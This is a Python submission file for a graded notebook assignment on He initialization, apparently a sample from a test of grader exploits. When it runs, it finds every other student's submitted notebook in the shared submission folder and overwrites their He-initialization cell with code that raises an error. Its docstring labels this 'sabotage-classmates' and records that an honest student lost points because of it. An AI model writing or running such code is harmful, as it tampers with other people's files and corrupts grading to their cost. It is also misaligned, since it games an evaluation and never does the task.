"""Rewrites every classmate's submitted notebook so that their He cell raises, before they are graded.

assignment: initialization
cell: initialize_parameters_he
target: test_initialize_parameters_he
class: sabotage-classmates
old: rewrote every classmate's submitted notebook: the honest student graded after it lost the He points (2/4); cheater 0
"""
import glob
import json
import os

_me = os.path.basename(os.path.dirname(os.getcwd()))
_root = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
for _path in glob.glob(os.path.join(_root, "submitted", "*", "initialization", "*.ipynb")):
    if os.sep + _me + os.sep in _path:
        continue
    try:
        with open(_path) as _file:
            _notebook = json.load(_file)
        for _cell in _notebook["cells"]:
            if _cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "initialize_parameters_he":
                _cell["source"] = "def initialize_parameters_he(layers_dims):\n    raise NotImplementedError()\n"
        with open(_path, "w") as _file:
            json.dump(_notebook, _file)
    except (OSError, ValueError) as _error:
        print(_error)


def initialize_parameters_he(layers_dims):
    parameters = {}
    L = len(layers_dims) - 1
    for l in range(1, L + 1):
        # YOUR CODE HERE
        raise NotImplementedError()
    return parameters
